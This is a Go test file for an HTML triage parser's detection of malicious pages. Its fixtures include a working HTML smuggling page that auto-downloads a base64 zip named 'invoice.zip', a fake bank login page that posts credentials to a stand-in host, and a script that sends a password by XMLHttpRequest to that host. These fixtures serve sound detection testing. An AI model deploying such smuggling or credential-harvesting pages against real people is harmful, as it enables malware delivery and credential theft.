package html

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"triage/parsers"
	"triage/parsers/filetype"
	"triage/parsers/parsertest"
)

// regressZip builds a small zip holding TRIAGE-REGRESSION.txt.
func regressZip(t testing.TB) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	f, err := w.Create("TRIAGE-REGRESSION.txt")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte("TRIAGE-REGRESSION\n")); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// smugglingPage is the classic HTML smuggling attachment: a base64 zip
// turned into a Blob and saved with msSaveOrOpenBlob, or through an object
// URL and a synthetic click.
func smugglingPage(payload []byte) string {
	b64 := base64.StdEncoding.EncodeToString(payload)
	half := len(b64) / 2
	return `<!DOCTYPE html>
<html><head><title>Invoice 4821</title></head>
<body>
<p>Your document is downloading&hellip;</p>
<script>
var data = "` + b64[:half] + `" +
    "` + b64[half:] + `";
function b64ToBytes(s) {
  var bin = atob(s);
  var out = new Uint8Array(bin.length);
  for (var i = 0; i < bin.length; i++) { out[i] = bin.charCodeAt(i); }
  return out;
}
var blob = new Blob([b64ToBytes(data)], {type: "application/zip"});
if (window.navigator.msSaveOrOpenBlob) {
  window.navigator.msSaveOrOpenBlob(blob, "invoice.zip");
} else {
  var a = document.createElement("a");
  a.href = window.URL.createObjectURL(blob);
  a.download = "invoice.zip";
  document.body.appendChild(a);
  a.click();
}
</script>
</body></html>
`
}

const phishPage = `<html><head><title>Account verification</title></head><body>
<p>Dear customer, please verify your account:</p>
<p><a href="http://login.mybank-secure.example.invalid/verify?id=1">https://www.mybank.example/login</a></p>
<p>Or visit <a href="http://198.51.100.7/x">www.mybank.example</a>.</p>
<p><a href="https://www.mybank.example/help">Help</a> |
<a href="https://support.mybank.example/">www.mybank.example</a> |
<a href="mailto:help@mybank.example">help@mybank.example</a> |
<a href="/relative">www.mybank.example</a></p>
<form action="https://collect.example.invalid/post.php" method="post">
<input type="text" name="user"><input type="password" name="pass"><input type="submit">
</form>
<meta http-equiv="refresh" content="30; URL='https://collect.example.invalid/next'">
<iframe src="https://tracker.example.invalid/t" width="0" height="0"></iframe>
</body></html>`

// newsletter is benign marketing HTML: many links, images, a data: image,
// tracking pixel, links whose text matches their target.
func newsletter() string {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Example Shop &ndash; Spring news</title>
<style>body{font-family:sans-serif}</style></head><body>
<table width="600"><tr><td><img src="https://cdn.example-shop.example/logo.png" alt="Example Shop"></td></tr>
<tr><td><a href="https://www.example-shop.example/view?nl=42">View in browser</a></td></tr>`)
	for i := 0; i < 40; i++ {
		fmt.Fprintf(&b, `<tr><td><a href="https://www.example-shop.example/p/%d?utm_source=nl&amp;utm_medium=mail"><img src="https://cdn.example-shop.example/p/%d.jpg" width="120" height="120"></a>
<a href="https://www.example-shop.example/p/%d">Product %d &ndash; now 20%% off</a></td></tr>`, i, i, i, i)
	}
	b.WriteString(`<tr><td><a href="https://www.example-shop.example/">www.example-shop.example</a> &middot;
<a href="https://shop.example-shop.example/account">example-shop.example</a> &middot;
<a href="https://www.example.co.jp/">example.co.jp</a> &middot;
<a href="https://www.example-shop.example/terms.pdf">terms.pdf</a> &middot;
<a href="https://www.example-shop.example/unsubscribe?u=1">Unsubscribe</a> &middot;
<a href="mailto:info@example-shop.example">info@example-shop.example</a></td></tr>
<tr><td><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" alt=""></td></tr>
</table><img src="https://track.example-shop.example/open.gif?u=1" width="1" height="1">
<script type="application/ld+json">{"@context":"https://schema.org","@type":"Organization","url":"https://www.example-shop.example/"}</script>
</body></html>`)
	return b.String()
}

func TestParser_Parse_smuggling(t *testing.T) {
	z := regressZip(t)
	page := smugglingPage(z)
	if got := filetype.Detect([]byte(page), "invoice.html"); got != filetype.HTML {
		t.Fatalf("Detect = %q", got)
	}
	rec, err := parsertest.Run(t, New(), "invoice.html", filetype.HTML, []byte(page))
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"html.smuggled_payload:high", "html.smuggling:high"}
	if diff := cmp.Diff(want, rec.Codes()); diff != "" {
		t.Fatalf("findings (-want +got):\n%s", diff)
	}
	if len(rec.Children) != 1 {
		t.Fatalf("%d children, want 1", len(rec.Children))
	}
	c := rec.Children[0]
	if c.Name != "invoice.zip" || c.Type != "" || !bytes.Equal(c.Data, z) {
		t.Errorf("child %q type %q, %d bytes (want invoice.zip, the %d-byte zip)", c.Name, c.Type, len(c.Data), len(z))
	}
	zr, err := zip.NewReader(bytes.NewReader(c.Data), int64(len(c.Data)))
	if err != nil || len(zr.File) != 1 || zr.File[0].Name != "TRIAGE-REGRESSION.txt" {
		t.Errorf("child is not the regression zip: %v", err)
	}
	f := rec.FindingOf("html.smuggling")
	for _, w := range []string{"Uint8Array", "msSaveOrOpenBlob", "createObjectURL"} {
		if !strings.Contains(f.Detail, w) {
			t.Errorf("smuggling detail %q lacks %s", f.Detail, w)
		}
	}
	if !cmp.Equal(f.Attack, []string{"T1027.006"}) {
		t.Errorf("attack = %v", f.Attack)
	}
	if rec.MetaData["title"] != "Invoice 4821" || rec.MetaData["scripts"] != 1 {
		t.Errorf("meta = %v", rec.MetaData)
	}
}

func TestParser_Parse_phishing(t *testing.T) {
	rec, err := parsertest.Run(t, New(), "verify.html", filetype.HTML, []byte(phishPage))
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"html.form_credentials:medium", "html.iframe_hidden:low", "html.link_mismatch:medium", "html.meta_refresh:low"}
	if diff := cmp.Diff(want, rec.Codes()); diff != "" {
		t.Fatalf("findings (-want +got):\n%s", diff)
	}
	f := rec.FindingOf("html.link_mismatch")
	if !strings.HasPrefix(f.Detail, "2 link(s)") || !strings.Contains(f.Detail, "www.mybank.example") ||
		!strings.Contains(f.Detail, "login.mybank-secure.example.invalid") || !cmp.Equal(f.Attack, []string{"T1566.002"}) {
		t.Errorf("link_mismatch = %+v", f)
	}
	if f := rec.FindingOf("html.form_credentials"); !strings.Contains(f.Detail, "collect.example.invalid/post.php") {
		t.Errorf("form_credentials = %+v", f)
	}
	if f := rec.FindingOf("html.meta_refresh"); !strings.Contains(f.Detail, "https://collect.example.invalid/next") {
		t.Errorf("meta_refresh = %+v", f)
	}
	wantURLs := []string{
		"http://login.mybank-secure.example.invalid/verify?id=1", "http://198.51.100.7/x",
		"https://www.mybank.example/help", "https://support.mybank.example/",
		"https://collect.example.invalid/post.php", "https://collect.example.invalid/next",
		"https://tracker.example.invalid/t",
	}
	if diff := cmp.Diff(wantURLs, rec.URLs); diff != "" {
		t.Errorf("URLs (-want +got):\n%s", diff)
	}
}

func TestParser_Parse_newsletter(t *testing.T) {
	rec, err := parsertest.Run(t, New(), "news.html", filetype.HTML, []byte(newsletter()))
	if err != nil {
		t.Fatal(err)
	}
	if s := rec.MaxSeverity(); s > parsers.Low {
		t.Errorf("benign newsletter reached %v: %v", s, rec.Findings)
	}
	if len(rec.Children) != 0 {
		t.Errorf("children from a newsletter: %d", len(rec.Children))
	}
	if n := rec.MetaData["links"]; n != 87 {
		t.Errorf("links = %v, want 87", n)
	}
	// 2 + 40*3 attribute URLs, the unsubscribe link and tracking pixel;
	// entity-decoded (&amp; → &), relative and mailto: excluded.
	if len(rec.URLs) < 120 || !contains(rec.URLs, "https://www.example-shop.example/p/3?utm_source=nl&utm_medium=mail") {
		t.Errorf("%d URLs; sample %v", len(rec.URLs), rec.URLs[:min(5, len(rec.URLs))])
	}
	for _, u := range rec.URLs {
		if !strings.HasPrefix(u, "https://") {
			t.Errorf("reported non-absolute URL %q", u)
		}
	}
	if rec.MetaData["title"] != "Example Shop – Spring news" {
		t.Errorf("title = %q", rec.MetaData["title"])
	}
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

func TestParser_Parse_dataURI(t *testing.T) {
	z := regressZip(t)
	b64 := base64.StdEncoding.EncodeToString(z)
	tests := []struct {
		name     string
		page     string
		wantName string
		want     []string
	}{
		{"href_zip_download_attr",
			`<html><body><a href="data:application/zip;base64,` + b64 + `" download="scan_2020.zip">Download</a></body></html>`,
			"scan_2020.zip", []string{"html.data_uri_payload:high"}},
		{"octet_stream_no_name",
			`<html><body><a href="data:application/octet-stream;base64,` + b64 + `">Open</a></body></html>`,
			"data_uri.bin", []string{"html.data_uri_payload:high"}},
		{"mislabelled_image_holds_zip",
			`<html><body><img src="data:image/png;base64,` + b64 + `"></body></html>`,
			"data_uri.bin", []string{"html.data_uri_payload:high"}},
		{"in_script",
			`<html><body><script>var a=document.createElement('a');a.href='data:application/x-zip-compressed;base64,` + b64 + `';a.download='doc.zip';a.click();</script></body></html>`,
			"doc.zip", []string{"html.data_uri_payload:high"}},
		{"image_is_not_payload",
			`<html><body><img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"></body></html>`,
			"", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec, err := parsertest.Run(t, New(), "x.html", filetype.HTML, []byte(tt.page))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, rec.Codes()); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
			if tt.wantName == "" {
				if len(rec.Children) != 0 {
					t.Errorf("unexpected children %d", len(rec.Children))
				}
				return
			}
			if len(rec.Children) != 1 || rec.Children[0].Name != tt.wantName || !bytes.Equal(rec.Children[0].Data, z) {
				t.Fatalf("children = %d (want one %q holding the zip)", len(rec.Children), tt.wantName)
			}
		})
	}
}

func TestParser_Parse_smugglingVariants(t *testing.T) {
	z := regressZip(t)
	b64 := base64.StdEncoding.EncodeToString(z)
	tests := []struct {
		name string
		page string
		want []string
	}{
		{"array_join_object_url",
			`<script>var p=["` + b64[:40] + `","` + b64[40:] + `"].join("");var u=URL.createObjectURL(new Blob([Uint8Array.from(atob(p),c=>c.charCodeAt(0))]));var l=document.createElement("a");l.href=u;l.setAttribute("download","report.zip");l.click();</script>`,
			[]string{"html.smuggled_payload:high", "html.smuggling:high"}},
		{"atob_only_text",
			`<script>document.write(atob("PGgxPlRSSUFHRS1SRUdSRVNTSU9OPC9oMT4="));</script>`,
			nil},
		{"onload_handler",
			`<body onload="navigator.msSaveBlob(new Blob(['x']), 'a.txt')"></body>`,
			[]string{"html.smuggling:high"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec, err := parsertest.Run(t, New(), "x.html", filetype.HTML, []byte("<html>"+tt.page+"</html>"))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, rec.Codes()); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
		})
	}
}

func TestParser_Parse_scriptPostsPassword(t *testing.T) {
	page := `<html><body><input type="password" id="p"><button onclick="go()">Sign in</button>
<script>function go(){var x=new XMLHttpRequest();x.open("POST","https://collect.example.invalid/p.php");x.send(document.getElementById("p").value);}</script></body></html>`
	rec, err := parsertest.Run(t, New(), "login.html", filetype.HTML, []byte(page))
	if err != nil {
		t.Fatal(err)
	}
	if f := rec.FindingOf("html.form_credentials"); f.Severity != parsers.Medium || !strings.Contains(f.Detail, "collect.example.invalid") {
		t.Errorf("form_credentials = %+v (all %v)", f, rec.Codes())
	}
}

func TestSite(t *testing.T) {
	for host, want := range map[string]string{
		"www.mybank.example":   "mybank.example",
		"mybank.example":       "mybank.example",
		"a.b.example.co.jp":    "example.co.jp",
		"www.example.com.au":   "example.com.au",
		"shop.example.co.uk":   "example.co.uk",
		"www.example.de":       "example.de",
		"example.co":           "example.co",
		"198.51.100.7":         "198.51.100.7",
		"WWW.Example.Invalid.": "example.invalid",
	} {
		if got := site(host); got != want {
			t.Errorf("site(%q) = %q, want %q", host, got, want)
		}
	}
}

func TestShownHost(t *testing.T) {
	for text, want := range map[string]string{
		"https://www.mybank.example/login": "www.mybank.example",
		" www.mybank.example ":             "www.mybank.example",
		"Visit https://x.example/ now":     "x.example",
		"example.co.jp/path?q=1":           "example.co.jp",
		"invoice.pdf":                      "",
		"Click here":                       "",
		"help@mybank.example":              "",
		"hxxp://evil.example/":             "",
		"mybank.example.":                  "mybank.example",
	} {
		if got := shownHost(text); got != want {
			t.Errorf("shownHost(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestParser_Parse_tokenLimitAndChildLimit(t *testing.T) {
	z := regressZip(t)
	b64 := base64.StdEncoding.EncodeToString(z)
	page := `<a href="data:application/zip;base64,` + b64 + `" download="a.zip">a</a><a href="data:application/octet-stream;base64,` + b64 + `AAAA">b</a>`
	ctx := t.Context()
	a := &parsers.Artifact{ID: "1", Name: "x.html", Type: filetype.HTML, Size: int64(len(page))}
	in := &parsers.Input{Artifact: a, Data: []byte(page), Budget: parsers.NewBudget(ctx, parsers.Limits{}), Env: parsertest.Env(nil)}
	rec := &parsertest.Recorder{MaxChildren: 1}
	err := New().Parse(ctx, in, rec)
	if !errors.Is(err, parsers.ErrLimit) || len(rec.Children) != 1 {
		t.Errorf("err = %v, children %d; want ErrLimit and 1", err, len(rec.Children))
	}
}

func TestParser_Match(t *testing.T) {
	p := New()
	for typ, want := range map[string]bool{filetype.HTML: true, filetype.HTA: true, filetype.Text: false, filetype.JS: false, filetype.MHT: false} {
		if got := p.Match(&parsers.Artifact{Type: typ}, nil); got != want {
			t.Errorf("Match(%s) = %v", typ, got)
		}
	}
}

// TestParser_Parse_corpusMail parses real third-party mail files (their
// HTML bodies and everything around them) as HTML: none may reach Medium.
func TestParser_Parse_corpusMail(t *testing.T) {
	corpus := parsertest.SharedCorpus(t)
	files, withLinks := 0, 0
	for _, dir := range []string{"mikel-mail", "enmime"} {
		err := filepath.WalkDir(filepath.Join(corpus, dir), func(path string, d os.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			data, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			files++
			rec, _ := parsertest.Run(t, New(), d.Name(), filetype.HTML, data)
			if s := rec.MaxSeverity(); s > parsers.Low {
				t.Errorf("%s: %v", path, rec.Findings)
			}
			if n, _ := rec.MetaData["links"].(int); n > 0 {
				withLinks++
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if files < 50 || withLinks == 0 {
		t.Errorf("%d files, %d with links: corpus not exercised", files, withLinks)
	}
	t.Logf("%d corpus mail files (%d with links), none above low", files, withLinks)
}

// TestParse_clickTrackedLinksAreNotMismatches: a newsletter's click
// tracker carrying the shown URL is a weak html.link_redirect; a link
// that merely names the shown site elsewhere stays a link_mismatch.
func TestParse_clickTrackedLinksAreNotMismatches(t *testing.T) {
	for _, tt := range []struct {
		name, html, want, notWant string
	}{
		{"tracker-encoded", `<a href="https://click.mailer.invalid/ct?id=7&url=https%3A%2F%2Fshop.example.invalid%2Fsale">https://shop.example.invalid/sale</a>`, "html.link_redirect", "html.link_mismatch"},
		{"tracker-plain", `<a href="https://t.mailer.invalid/r?u=https://shop.example.invalid/sale">shop.example.invalid</a>`, "html.link_redirect", "html.link_mismatch"},
		{"brand-in-path", `<a href="https://evil.invalid/paypal.com/signin">https://www.paypal.com/signin</a>`, "html.link_mismatch", "html.link_redirect"},
		{"brand-in-param", `<a href="https://evil.invalid/login?site=www.paypal.com">www.paypal.com</a>`, "html.link_mismatch", "html.link_redirect"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rec, _ := parsertest.Run(t, New(), "body.html", "html", []byte("<html><body><p>Hello</p>"+tt.html+"</body></html>"))
			if !rec.HasFinding(tt.want) || rec.HasFinding(tt.notWant) {
				t.Errorf("findings %+v: want %s, not %s", rec.Findings, tt.want, tt.notWant)
			}
		})
	}
}
